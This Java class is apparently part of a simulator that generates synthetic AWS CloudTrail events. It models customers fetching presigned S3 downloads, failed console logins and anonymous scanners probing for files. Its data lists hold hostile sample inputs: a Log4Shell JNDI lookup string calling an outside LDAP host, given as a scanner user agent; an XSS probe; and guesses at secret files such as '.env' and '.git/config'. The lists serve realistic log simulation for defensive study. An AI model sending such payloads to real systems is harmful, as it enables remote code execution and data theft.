package io.coldtrail.demo;

import java.time.Duration;
import java.time.Instant;
import java.util.List;

/** The internet: customers with signed links, and those who knock at every door. None of them is the attacker. */
final class Outsiders implements Part {
    /** Who calls without a signature. */
    static final Json.Raw NOBODY =
            Json.raw(Json.object("type", "AWSAccount", "principalId", "", "accountId", "ANONYMOUS_PRINCIPAL"));

    private static final Duration HOUR = Duration.ofHours(1);
    private static final double DOWNLOADS_AN_HOUR = 2.4;
    private static final double LOGINS_AN_HOUR = 0.3;
    private static final double PROBES_AN_HOUR = 0.2;
    private static final int SCANNERS = 9;
    private static final List<String> GUESSES =
            List.of("backup.zip", ".env", "db.sql", "wp-config.php", ".git/config", "<script>alert(1)</script>");
    private static final List<String> SCAN_AGENTS = List.of(
            "Mozilla/5.0 zgrab/0.x",
            "python-requests/2.28.1",
            "${jndi:ldap://198.18.0.1:1389/a}",
            "Go-http-client/1.1");

    private final World world;

    Outsiders(World world) {
        this.world = world;
    }

    @Override
    public void act(Instant hour, Journal journal) {
        Dice dice = Dice.of(world.seed, "outsiders", hour.getEpochSecond());
        int downloads = dice.count(DOWNLOADS_AN_HOUR * world.scale * Days.customerLoad(hour));
        for (int i = 0; i < downloads; i++) {
            download(dice, dice.within(hour, HOUR), journal);
        }
        int logins = dice.count(LOGINS_AN_HOUR * world.scale);
        for (int i = 0; i < logins; i++) {
            journal.add(login(dice, dice.within(hour, HOUR)));
        }
        int probes = dice.count(PROBES_AN_HOUR * world.scale);
        for (int i = 0; i < probes; i++) {
            journal.add(probe(dice, dice.within(hour, HOUR)));
        }
    }

    /** The web server signs links with the key it has; a link dies with the session it was signed in. */
    private void download(Dice dice, Instant time, Journal journal) {
        Instant signed = time.minusSeconds(dice.between(2, 2_400));
        if (!world.webUp(signed)) {
            return;
        }
        Session session = world.web.session(signed);
        Caller stranger = Caller.of(session, Addresses.customer(dice), Agents.browser(dice));
        Call call = S3.presigned(
                dice, time, stranger, world, Objects.upload(dice, time), dice.between(9_000, 3_000_000), signed);
        if (world.incident.refused(session, time)) {
            call.additional.put("bytesTransferredOut", 243);
            call.error("AccessDenied", "Access Denied");
        }
        journal.add(call);
    }

    private Call login(Dice dice, Instant time) {
        boolean known = dice.chance(0.3);
        String name = known ? world.people.get(4).name() : "HIDDEN_DUE_TO_SECURITY_REASONS";
        Json.Raw identity = Json.raw(
                Json.object("type", "IAMUser", "accountId", world.account, "accessKeyId", "", "userName", name));
        Caller scanner = scanner(dice, identity);
        Call call = new Call(dice, time, scanner, "signin", "ConsoleLogin");
        call.type = "AwsConsoleSignIn";
        call.readOnly = false;
        call.requestId = null;
        call.host = "signin.aws.amazon.com";
        call.errorMessage = known ? "Failed authentication" : "No username found in supplied account";
        call.response("ConsoleLogin", "Failure");
        call.additional = Json.object(
                "LoginTo", "https://console.aws.amazon.com/console/home", "MobileVersion", "No", "MFAUsed", "No");
        return call;
    }

    private Call probe(Dice dice, Instant time) {
        Call call = S3.object(dice, time, scanner(dice, NOBODY), world, "GetObject", dice.pick(GUESSES));
        S3.anonymous(dice, call, 243);
        // who may list a bucket is told what is not there
        return world.incident.listable(time)
                ? call.error("NoSuchKey", "The specified key does not exist.")
                : call.error("AccessDenied", "Access Denied");
    }

    private Caller scanner(Dice dice, Json.Raw identity) {
        return Caller.of(identity, world.addresses.scanner(dice.below(SCANNERS)), dice.pick(SCAN_AGENTS));
    }
}
